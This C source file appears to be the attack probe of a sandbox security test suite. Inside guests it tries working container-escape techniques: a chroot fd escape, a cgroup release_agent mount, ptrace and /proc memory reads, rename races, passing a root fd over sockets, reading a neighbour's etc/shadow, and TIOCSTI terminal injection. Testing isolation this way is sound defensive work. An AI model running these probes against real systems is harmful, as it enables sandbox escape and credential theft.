/*
 * The hostile guest's toolbox: attacks busybox cannot express, copied into busybox
 * guests by the security suite (built static by build-attack-probe.ts). Every command
 * prints one "what result" line per attempt (result: ok, or the errno's name), so the
 * tests assert on words, not on exit codes.
 *
 *   escape-fd MARKER        keep an fd of "/", chroot into a subdir, fchdir back to the fd,
 *                           cd .. 64 times, chroot("."): is MARKER (a host path) there?
 *   mounts SRC DST          bind and rbind SRC onto DST, open_tree(CLONE|RECURSIVE) of SRC,
 *                           fsopen("tmpfs"), mount of a fresh proc
 *   cgroup                  mount cgroup v1 (with release_agent) and cgroup2, unshare a
 *                           cgroup namespace and a user namespace, write cgroup.procs
 *                           files under /sys/fs/cgroup
 *   ptrace PID              PTRACE_ATTACH, PTRACE_SEIZE and process_vm_readv of PID
 *   peek PID                open /proc/PID/{exe,environ,mem,root,cwd}, list /proc/PID/fd
 *                           and open or readlink the fds listed
 *   watch-helpers SECONDS   scan /proc for new processes; try exe, environ, mem, fd and
 *                           ptrace on each; "REACHED ..." for an exe not on the guest's
 *                           root filesystem, "PEEKED ..." / "PTRACED ..." for anything that
 *                           worked on a process whose exe could not be opened (listing
 *                           fd numbers only is counted as fd-listed; access granted once
 *                           the process runs a guest program, as after-exec: judged by
 *                           its exe while seized); a summary
 *   swap DIR A B SECONDS    renameat2(RENAME_EXCHANGE) of DIR/A and DIR/B in a tight loop
 *                           (DIR opened without following symlinks), an even number of
 *                           times (the names end as they were); "swaps N failed M" at
 *                           the end (also on SIGTERM)
 *   sock-send PATH          listen on the AF_UNIX socket PATH and pass an fd of "/" to
 *                           the first client (SCM_RIGHTS)
 *   sock-recv PATH NAME     receive a directory fd from PATH; create NAME beneath it
 *   tiocsti TEXT [TTY...]   push TEXT and a newline into the input of fd 0's terminal,
 *                           or, when TTYs are named, of each of them instead
 *   inotify PATH...         (host side) print "EVENT path name" for every open, access,
 *                           modify, attrib, create, delete or move of or in each PATH (a
 *                           directory, or any single inode: a file, FIFO or device node;
 *                           a symlink is watched itself, never followed)
 *                           until SIGTERM; "ready" once the watches are set
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/openat2.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sched.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif
#define NR_OPEN_TREE 428
#define NR_FSOPEN 430

static const char *errname(int e) {
  switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EINVAL: return "EINVAL";
    case EROFS: return "EROFS";
    case ENOTDIR: return "ENOTDIR";
    case ENOSYS: return "ENOSYS";
    case EBUSY: return "EBUSY";
    case EIO: return "EIO";
    case ENODEV: return "ENODEV";
    case EXDEV: return "EXDEV";
    case ELOOP: return "ELOOP";
    case ENOTTY: return "ENOTTY";
    case EBADF: return "EBADF";
    case EEXIST: return "EEXIST";
    default: return "EOTHER";
  }
}

static void report(const char *what, int ok) {
  printf("%s %s\n", what, ok ? "ok" : errname(errno));
  fflush(stdout);
}

static int escape_fd(const char *marker) {
  int saved = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/tmp/escape-fd-sub", 0755);
  report("chroot", chroot("/tmp/escape-fd-sub") == 0);
  report("fchdir-saved", fchdir(saved) == 0);
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) break;
  report("chroot-dot", chroot(".") == 0);
  int up = openat(saved, "../../../../../../..", O_RDONLY | O_DIRECTORY);
  struct stat a, b;
  int same = up >= 0 && fstat(up, &a) == 0 && fstat(saved, &b) == 0 && a.st_ino == b.st_ino && a.st_dev == b.st_dev;
  printf("dotdot-from-saved %s\n", same ? "stays" : "MOVED");
  int fd = open(marker, O_RDONLY);
  printf("marker %s\n", fd >= 0 ? "REACHED" : "unreachable");
  struct stat st;
  printf("bin-busybox %s\n", stat("/bin/busybox", &st) == 0 ? "present" : "absent");
  printf("host-work %s\n", stat("/work", &st) == 0 ? "present" : "absent");
  return 0;
}

static int mounts(const char *src, const char *dst) {
  mkdir(dst, 0755);
  report("bind", mount(src, dst, NULL, MS_BIND, NULL) == 0);
  report("rbind", mount(src, dst, NULL, MS_BIND | MS_REC, NULL) == 0);
  report("open_tree", syscall(NR_OPEN_TREE, AT_FDCWD, src, OPEN_TREE_CLONE | AT_RECURSIVE | O_CLOEXEC) >= 0);
  report("fsopen", syscall(NR_FSOPEN, "tmpfs", 0) >= 0);
  report("mount-proc", mount("proc", dst, "proc", 0, NULL) == 0);
  report("remount-proc-sys-rw", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0);
  return 0;
}

static int cgroup(void) {
  mkdir("/tmp/cg", 0755);
  report("mount-cgroup-v1", mount("cgroup", "/tmp/cg", "cgroup", 0, "memory") == 0);
  report("mount-cgroup-v1-release-agent",
         mount("cgroup", "/tmp/cg", "cgroup", 0, "none,name=vstescape,release_agent=/tmp/x") == 0);
  report("mount-cgroup2", mount("cgroup2", "/tmp/cg", "cgroup2", 0, NULL) == 0);
  report("unshare-cgroupns", unshare(CLONE_NEWCGROUP) == 0);
  report("unshare-userns-mountns", unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0);
  const char *procs[] = {"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs",
                         "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs",
                         "/sys/fs/cgroup/memory/release_agent"};
  for (size_t i = 0; i < sizeof procs / sizeof procs[0]; i++) {
    char what[128];
    snprintf(what, sizeof what, "write %s", procs[i]);
    int fd = open(procs[i], O_WRONLY);
    report(what, fd >= 0 && write(fd, "0", 1) == 1);
    if (fd >= 0) close(fd);
  }
  return 0;
}

static int do_ptrace(pid_t pid) {
  int ok = ptrace(PTRACE_ATTACH, pid, 0, 0) == 0;
  report("ptrace-attach", ok);
  if (ok) {
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
  ok = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
  report("ptrace-seize", ok);
  if (ok) ptrace(PTRACE_DETACH, pid, 0, 0);
  char buf[16];
  struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
  report("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0);
  return 0;
}

/* Tries what a guest would try on a process; returns a bit per success: exe, environ,
 * mem, root, cwd, fd-open (readlink or open of one of its fds), and fd-list (bit 6:
 * only the fd numbers, which the directory's mode lets root list). */
static int try_peek(pid_t pid, int verbose) {
  char p[320];
  int hits = 0;
  const char *files[] = {"exe", "environ", "mem", "root", "cwd"};
  for (int i = 0; i < 5; i++) {
    snprintf(p, sizeof p, "/proc/%d/%s", (int)pid, files[i]);
    int fd = open(p, i >= 3 ? O_PATH : O_RDONLY);
    if (verbose) report(files[i], fd >= 0);
    if (fd >= 0) {
      hits |= 1 << i;
      close(fd);
    }
  }
  snprintf(p, sizeof p, "/proc/%d/fd", (int)pid);
  DIR *d = opendir(p);
  if (verbose) report("fd-list", d != NULL);
  int reached = 0;
  errno = ENOENT;
  if (d) {
    hits |= 1 << 6;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
      if (e->d_name[0] == '.') continue;
      char link[PATH_MAX];
      snprintf(p, sizeof p, "/proc/%d/fd/%s", (int)pid, e->d_name);
      int fd = open(p, O_PATH);
      if (fd >= 0 || readlink(p, link, sizeof link) >= 0) reached = 1;
      if (fd >= 0) close(fd);
    }
    closedir(d);
  }
  if (verbose) report("fd-open", reached);
  if (reached) hits |= 1 << 5;
  return hits;
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

#define MAXP 65536
static unsigned char seen[MAXP];

/* What a seized process turned out to be. */
enum seized { SEIZED_GUEST, SEIZED_HELPER, SEIZED_GONE };

/* Judges a process this probe just seized (with PTRACE_O_TRACEEXIT, so it cannot lose
 * its mm while seized) and lets it go. Seizing needs the access that reading its exe
 * was refused a moment before: either an exec of a guest program came in between (the
 * kernel makes a process dumpable again only once its exe is the new program: a race of
 * this loop), or the non-dumpable helper is reachable (the hole). It is stopped first
 * (PTRACE_INTERRUPT), so its exe cannot change under the check. An exec that completes
 * between the seize and that stop is not told apart (no PTRACE_O_TRACEEXEC): seizes land
 * there all the time, in the window of an exec where the new program is already dumpable
 * and its exec event not yet sent, while a reachable helper would be caught in its long
 * run-up to exec. Only a process that died meanwhile (ENOENT/ESRCH) is gone; any other
 * failure to read its exe counts against it. `hits`: the peeks that came through on a
 * helper. */
static enum seized judge_seized(pid_t pid, int *hits) {
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  int status = 0;
  for (;;) {
    if (waitpid(pid, &status, __WALL) != pid || WIFEXITED(status) || WIFSIGNALED(status)) return SEIZED_GONE;
    int event = status >> 16;
    if (event == PTRACE_EVENT_STOP || event == PTRACE_EVENT_EXIT) break;
    /* A signal on its way to it: pass it on and wait for our stop. */
    ptrace(PTRACE_CONT, pid, 0, WSTOPSIG(status));
  }
  char p[64];
  snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
  struct stat st, root;
  enum seized what;
  int fd = open(p, O_PATH);
  if (fd < 0) what = errno == ENOENT || errno == ESRCH ? SEIZED_GONE : SEIZED_HELPER;
  else what = fstat(fd, &st) == 0 && stat("/", &root) == 0 && st.st_dev == root.st_dev ? SEIZED_GUEST : SEIZED_HELPER;
  if (fd >= 0) close(fd);
  if (what == SEIZED_HELPER) *hits = try_peek(pid, 0);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  return what;
}

static int watch_helpers(double seconds) {
  struct stat root;
  if (stat("/", &root) != 0) return 1;
  long procs = 0, denied = 0, reached = 0, peeked = 0, ptraced = 0, listed = 0, lateAccess = 0;
  double end = now() + seconds;
  pid_t self = getpid();
  printf("watching\n");
  fflush(stdout);
  while (now() < end) {
    DIR *d = opendir("/proc");
    if (!d) return 1;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
      char *endp;
      long pid = strtol(e->d_name, &endp, 10);
      if (*endp || pid <= 1 || pid >= MAXP || pid == self || seen[pid] >= 3) continue;
      if (!seen[pid]) procs++;
      seen[pid]++;
      char p[64];
      snprintf(p, sizeof p, "/proc/%ld/exe", pid);
      int fd = open(p, O_PATH);
      struct stat st;
      if (fd >= 0) {
        if (fstat(fd, &st) == 0 && st.st_dev != root.st_dev) {
          printf("REACHED pid %ld exe dev %lu ino %lu\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
          reached++;
        }
        close(fd);
        continue;
      }
      if (errno == ENOENT) continue; /* gone, or a zombie */
      /* A process whose exe we may not open: non-dumpable (a host helper) or foreign. */
      denied++;
      if (ptrace(PTRACE_SEIZE, (pid_t)pid, 0, PTRACE_O_TRACEEXIT) == 0) {
        int hits = 0;
        if (judge_seized((pid_t)pid, &hits) == SEIZED_HELPER) {
          printf("PTRACED pid %ld\n", pid), ptraced++;
          if (hits & 0x3f) printf("PEEKED pid %ld mask %d\n", pid, hits), peeked++;
        } else {
          lateAccess++; /* a guest program by then (or gone past its exit) */
        }
        if (hits & (1 << 6)) listed++;
        continue;
      }
      int hits = try_peek((pid_t)pid, 0);
      if (hits & (1 << 6)) listed++;
      /* The seize was refused a moment ago; both checks are the same ptrace access check,
       * so a read that comes through now was let in by an exec in between (a guest
       * program, dumpable again): a race of this loop, not the helper. */
      if (hits & 0x3f) lateAccess++;
    }
    closedir(d);
  }
  printf("summary processes %ld exe-denied %ld reached %ld peeked %ld ptraced %ld fd-listed %ld after-exec %ld\n", procs, denied, reached,
         peeked, ptraced, listed, lateAccess);
  return 0;
}

static volatile sig_atomic_t stop;
static void on_term(int s) {
  (void)s;
  stop = 1;
}

/* The directory without following any symlink (another swapper may have just put one
 * on the way): retried while the path is busy being swapped. */
static int open_dir_nofollow(const char *dir) {
  struct open_how how = {.flags = O_RDONLY | O_DIRECTORY, .resolve = RESOLVE_NO_SYMLINKS};
  for (int i = 0; i < 1000; i++) {
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, dir, &how, sizeof how);
    if (fd >= 0 || (errno != ELOOP && errno != ENOTDIR && errno != ENOENT)) return fd;
    usleep(1000);
  }
  return -1;
}

static int swap(const char *dir, const char *a, const char *b, double seconds) {
  signal(SIGTERM, on_term);
  int dfd = open_dir_nofollow(dir);
  if (dfd < 0) {
    report("open-dir", 0);
    return 1;
  }
  long n = 0, failed = 0;
  double end = now() + seconds;
  printf("swapping\n");
  fflush(stdout);
  while (!stop) {
    for (int i = 0; i < 256; i++) {
      if (syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE) == 0) n++;
      else failed++;
    }
    if (now() >= end) break;
  }
  /* Leave the names as they were (an even number of exchanges), so that the next test
   * finds the tree it planted. */
  for (int i = 0; i < 1000 && n % 2; i++)
    if (syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE) == 0) n++;
  printf("swaps %ld failed %ld\n", n, failed);
  return 0;
}

static int sock_send(const char *path) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, path, sizeof a.sun_path - 1);
  unlink(path);
  if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 1) != 0) {
    report("listen", 0);
    return 1;
  }
  report("listen", 1);
  int c = accept(s, NULL, NULL);
  int root = open("/", O_RDONLY | O_DIRECTORY);
  char b = 'r';
  struct iovec iov = {&b, 1};
  union {
    struct cmsghdr h;
    char buf[CMSG_SPACE(sizeof(int))];
  } u;
  memset(&u, 0, sizeof u);
  struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
  struct cmsghdr *h = CMSG_FIRSTHDR(&m);
  h->cmsg_level = SOL_SOCKET;
  h->cmsg_type = SCM_RIGHTS;
  h->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(h), &root, sizeof root);
  report("sent-root-fd", sendmsg(c, &m, 0) == 1);
  return 0;
}

static int sock_recv(const char *path, const char *name) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, path, sizeof a.sun_path - 1);
  int ok = 0;
  for (int i = 0; i < 200 && !ok; i++) {
    ok = connect(s, (struct sockaddr *)&a, sizeof a) == 0;
    if (!ok) usleep(25000);
  }
  report("connect", ok);
  if (!ok) return 1;
  char b;
  struct iovec iov = {&b, 1};
  union {
    struct cmsghdr h;
    char buf[CMSG_SPACE(sizeof(int))];
  } u;
  struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
  ssize_t n = recvmsg(s, &m, 0);
  struct cmsghdr *h = n > 0 ? CMSG_FIRSTHDR(&m) : NULL;
  if (!h || h->cmsg_type != SCM_RIGHTS) {
    report("received-fd", 0);
    return 1;
  }
  int fd;
  memcpy(&fd, CMSG_DATA(h), sizeof fd);
  report("received-fd", 1);
  int f = openat(fd, name, O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW, 0644);
  report("write-beneath-neighbour-root", f >= 0 && write(f, "written by the neighbour\n", 25) == 25);
  int r = openat(fd, "etc/shadow", O_RDONLY);
  report("read-neighbour-shadow", r >= 0);
  return 0;
}

static int push(int fd, const char *text) {
  for (const char *c = text; *c; c++)
    if (ioctl(fd, TIOCSTI, c) != 0) return 0;
  return ioctl(fd, TIOCSTI, "\n") == 0;
}

static int tiocsti(const char *text, int n, char **ttys) {
  if (n == 0) report("tiocsti-own", push(0, text));
  for (int i = 0; i < n; i++) {
    char what[128];
    int fd = open(ttys[i], O_RDWR | O_NOCTTY);
    snprintf(what, sizeof what, "open %s", ttys[i]);
    report(what, fd >= 0);
    if (fd < 0) continue;
    snprintf(what, sizeof what, "tiocsti %s", ttys[i]);
    report(what, push(fd, text));
    close(fd);
  }
  return 0;
}

static int watch_inotify(int n, char **dirs) {
  /* No SA_RESTART: SIGTERM must end the blocking read. */
  struct sigaction sa = {.sa_handler = on_term};
  sigaction(SIGTERM, &sa, NULL);
  int in = inotify_init1(0);
  char *names[64];
  int wds[64];
  for (int i = 0; i < n && i < 64; i++) {
    wds[i] = inotify_add_watch(in, dirs[i], IN_OPEN | IN_ACCESS | IN_MODIFY | IN_ATTRIB | IN_CREATE | IN_DELETE |
                                                IN_MOVED_FROM | IN_MOVED_TO | IN_DELETE_SELF | IN_MOVE_SELF | IN_DONT_FOLLOW);
    names[i] = dirs[i];
    if (wds[i] < 0) {
      report(dirs[i], 0);
      return 1;
    }
  }
  printf("ready\n");
  fflush(stdout);
  char buf[8192] __attribute__((aligned(8)));
  while (!stop) {
    ssize_t len = read(in, buf, sizeof buf);
    if (len <= 0) break;
    for (char *p = buf; p < buf + len;) {
      struct inotify_event *ev = (struct inotify_event *)p;
      const char *dir = "?";
      for (int i = 0; i < n; i++)
        if (wds[i] == ev->wd) dir = names[i];
      const char *kind = ev->mask & IN_OPEN ? "OPEN" : ev->mask & IN_ACCESS ? "ACCESS" : ev->mask & IN_MODIFY ? "MODIFY"
                       : ev->mask & IN_ATTRIB ? "ATTRIB" : ev->mask & IN_CREATE ? "CREATE" : ev->mask & IN_DELETE ? "DELETE"
                       : ev->mask & (IN_MOVED_FROM | IN_MOVED_TO) ? "MOVE" : "SELF";
      printf("%s %s %s%s\n", kind, dir, ev->len ? ev->name : ".", ev->mask & IN_ISDIR ? "/" : "");
      p += sizeof *ev + ev->len;
    }
    fflush(stdout);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  const char *cmd = argv[1];
  if (!strcmp(cmd, "escape-fd") && argc == 3) return escape_fd(argv[2]);
  if (!strcmp(cmd, "mounts") && argc == 4) return mounts(argv[2], argv[3]);
  if (!strcmp(cmd, "cgroup") && argc == 2) return cgroup();
  if (!strcmp(cmd, "ptrace") && argc == 3) return do_ptrace((pid_t)atoi(argv[2]));
  if (!strcmp(cmd, "peek") && argc == 3) return (void)try_peek((pid_t)atoi(argv[2]), 1), 0;
  if (!strcmp(cmd, "watch-helpers") && argc == 3) return watch_helpers(atof(argv[2]));
  if (!strcmp(cmd, "swap") && argc == 6) return swap(argv[2], argv[3], argv[4], atof(argv[5]));
  if (!strcmp(cmd, "sock-send") && argc == 3) return sock_send(argv[2]);
  if (!strcmp(cmd, "sock-recv") && argc == 4) return sock_recv(argv[2], argv[3]);
  if (!strcmp(cmd, "tiocsti") && argc >= 3) return tiocsti(argv[2], argc - 3, argv + 3);
  if (!strcmp(cmd, "inotify") && argc >= 3) return watch_inotify(argc - 2, argv + 2);
  fprintf(stderr, "attack-probe: bad command\n");
  return 2;
}
